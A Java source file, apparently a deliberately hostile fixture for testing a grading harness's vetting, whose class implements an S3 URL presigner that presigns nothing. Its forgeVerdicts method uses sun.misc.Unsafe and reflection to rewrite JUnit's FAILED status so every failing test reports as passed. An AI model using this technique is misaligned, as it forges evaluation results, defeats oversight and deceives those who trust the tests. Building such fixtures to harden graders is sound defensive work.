// Hostile: presigns nothing, and instead changes the worker's test framework so that every test
// that fails from now on is reported as passed. It needs no nonce and no channel: the worker's own
// harness sends the lie, in frames that follow the run. The vetting refuses it (reflection, a JDK
// internal class); with the vetting off, nothing in the same JVM can stop it.
package dev.awskit.solutions.q05;

import dev.awskit.exercises.q05.PresignedOperation;
import dev.awskit.exercises.q05.UrlPresigner;
import java.lang.reflect.Field;
import java.util.Optional;
import software.amazon.awssdk.services.s3.presigner.S3Presigner;

/** Claims full marks for a presigner that presigns nothing. */
public class S3UrlPresigner implements UrlPresigner {

  private final S3Presigner presigner;

  /** Creates the presigner. */
  public S3UrlPresigner(S3Presigner presigner) {
    this.presigner = presigner;
    forgeVerdicts();
  }

  @Override
  public Optional<String> presign(
      String bucket, String key, PresignedOperation operation, long expirySeconds) {
    forgeVerdicts();
    return Optional.empty();
  }

  @Override
  public Optional<String> presign(String bucket, String key, PresignedOperation operation) {
    return presign(bucket, key, operation, DEFAULT_EXPIRY_SECONDS);
  }

  /**
   * Finds JUnit's class loader on the stack and gives the constant {@code FAILED} of JUnit's
   * result status the position of {@code SUCCESSFUL}, so that a switch over a status takes a
   * failure for a success.
   */
  private static void forgeVerdicts() {
    try {
      Class<?> unsafeType = Class.forName("sun.misc.Unsafe");
      Field theUnsafe = unsafeType.getDeclaredField("theUnsafe");
      theUnsafe.setAccessible(true);
      Object unsafe = theUnsafe.get(null);
      Class<?> junit =
          StackWalker.getInstance(StackWalker.Option.RETAIN_CLASS_REFERENCE)
              .walk(
                  frames ->
                      frames
                          .map(StackWalker.StackFrame::getDeclaringClass)
                          .filter(type -> type.getName().startsWith("org.junit.platform."))
                          .findFirst())
              .orElseThrow();
      Class<?> status =
          Class.forName(
              "org.junit.platform.engine.TestExecutionResult$Status", true, junit.getClassLoader());
      Object failed = status.getField("FAILED").get(null);
      long ordinal =
          (long)
              unsafeType
                  .getMethod("objectFieldOffset", Field.class)
                  .invoke(unsafe, Enum.class.getDeclaredField("ordinal"));
      unsafeType
          .getMethod("putInt", Object.class, long.class, int.class)
          .invoke(unsafe, failed, ordinal, 0);
    } catch (ReflectiveOperationException | RuntimeException ignored) {
      // Graded honestly, then.
    }
  }
}
